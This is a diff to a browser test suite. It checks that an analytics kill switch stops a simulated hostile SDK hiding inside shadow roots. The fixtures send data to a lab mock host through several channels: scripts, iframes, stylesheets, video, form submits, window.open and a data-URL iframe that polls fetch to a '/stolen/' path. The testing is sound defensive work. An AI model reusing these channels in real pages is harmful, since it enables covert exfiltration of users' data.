@@ -14,11 +14,14 @@ interface Infection {
   readonly csp?: string
   /** What `afterKill` is: `'reload'`, or a function that has it reloaded, or not. */
   readonly afterKill?: 'reload' | 'asks' | 'stays'
+  /** What the app has done before. */
+  readonly before?: () => void
 }
 
 /** A tab in which the hostile SDK runs inline, as a vendor. */
-async function infected(infection: Infection = {}): Promise<Tab> {
+async function infected({ before, ...infection }: Infection = {}): Promise<Tab> {
   const tab = await lab.tab(profile)
+  if (before) await tab.page.evaluate(before)
   await tab.page.evaluate(
     ({ host, csp, afterKill }) => {
       const receipts: unknown[] = []
@@ -201,5 +204,114 @@ describe('a hostile SDK in the page', () => {
           key.startsWith('hostile'),
         ),
     )
+  })
+})
+
+describe('in shadow roots, which no selector enters, a hostile SDK', () => {
+  /** Hosts that are put in after the kill, and what waits in a root that is in the page. */
+  const useRoots = (tab: Tab, isKilled: boolean) =>
+    tab.page.evaluate(
+      ({ host, kill }) => {
+        const rootIn = (element: Element, mode: ShadowRootMode): ShadowRoot => {
+          const inner = document.createElement('b')
+          element.attachShadow({ mode }).append(inner)
+          return inner.appendChild(document.createElement('div')).attachShadow({ mode })
+        }
+        const hosts = [
+          ['script', 'src', 'open'],
+          ['iframe', 'src', 'closed'],
+          ['link', 'href', 'open'],
+        ].map(([tag = '', key = '', mode]) => {
+          const element = document.createElement(tag)
+          Object.assign(element, { rel: 'stylesheet', [key]: `${host}/stolen/${tag}` })
+          const outer = document.createElement('section')
+          rootIn(outer, mode as 'open').append(element)
+          return outer
+        })
+        const there = document.createElement('div')
+        const video = document.createElement('video')
+        Object.assign(video, { preload: 'none', muted: true, src: `${host}/stolen/video` })
+        document.body.append(there)
+        rootIn(there, 'closed').append(video)
+        if (kill) window.analytics.kill('hostile')
+        document.body.append(...hosts)
+        void video.play().catch(() => {})
+      },
+      { host: lab.mixpanel.url, kill: isKilled },
+    )
+
+  test('finds the roads open before the kill: the fixture can fail', async () => {
+    await useRoots(await infected(), false)
+    const roads = () => new Set(lab.mixpanel.requests.map(({ path }) => path)).size
+    await expect.poll(roads).toBeGreaterThanOrEqual(4)
+  })
+
+  test('has nothing loaded after the kill, open or closed', async () => {
+    const tab = await infected()
+    await useRoots(tab, true)
+    expect(await arrived(tab)).toEqual([])
+  })
+
+  test('has no form submitted after the kill, and no frame opened anew: neither is told outside of the root', async () => {
+    const tab = await infected()
+    await tab.page.evaluate((host) => {
+      const sink = Object.assign(document.createElement('iframe'), { name: 'sink' })
+      const dark = Object.assign(document.createElement('iframe'), { name: 'dark' })
+      const form = document.createElement('form')
+      Object.assign(form, { action: `${host}/stolen/form`, target: 'sink' })
+      const element = document.createElement('div')
+      document.body.append(sink, element)
+      element.attachShadow({ mode: 'closed' }).append(form, dark)
+      window.analytics.kill('hostile')
+      form.requestSubmit()
+      window.open(`${host}/stolen/open`, 'dark')
+    }, lab.mixpanel.url)
+    expect(await arrived(tab)).toEqual([])
+  })
+
+  test.each(['open', 'closed', 'declared'])(
+    'has its frames ended, or bound by the policy, in a root that is %s',
+    async (mode) => {
+      const tab = await infected({ csp: policy })
+      const { frames, isBound } = await tab.page.evaluate(
+        async ({ host, how }) => {
+          const code = `setInterval(() => fetch('${host}/stolen/frame', { mode: 'no-cors' }), 20)`
+          const html = `<iframe src="data:text/html,<script>${code}</script>"></iframe><iframe></iframe>`
+          const element = document.createElement('div')
+          document.body.append(element)
+          let root: ShadowRoot | null | undefined
+          if (how === 'declared') {
+            element.setHTMLUnsafe(`<p><template shadowrootmode=open>${html}</template></p>`)
+            root = element.firstElementChild?.shadowRoot
+          } else {
+            root = element.attachShadow({ mode: how as 'open' })
+            root.innerHTML = html
+          }
+          const [foreign, own] = root?.querySelectorAll('iframe') ?? []
+          await new Promise((resolve) => foreign?.addEventListener('load', resolve))
+          const { wall } = window.analytics.kill('hostile')
+          return {
+            frames: wall?.frames,
+            isBound: !!own?.contentDocument?.querySelector('meta[http-equiv]'),
+          }
+        },
+        { host: lab.mixpanel.url, how: mode },
+      )
+      expect({ frames, isBound }).toEqual({ frames: 1, isBound: true })
+      const before = (await arrived(tab)).length
+      expect(await arrived(tab)).toHaveLength(before)
+    },
+  )
+
+  test('is not taken for the owner of a frame that was there before it, in a root', async () => {
+    const before = (): void => {
+      const element = document.createElement('div')
+      document.body.append(element)
+      element.attachShadow({ mode: 'open' }).innerHTML =
+        '<iframe src="data:text/html,chat"></iframe>'
+    }
+    const tab = await infected({ csp: policy, before })
+    const { wall } = await tab.page.evaluate(() => window.analytics.kill('hostile'))
+    expect(wall).toMatchObject({ frames: 0 })
   })
 })
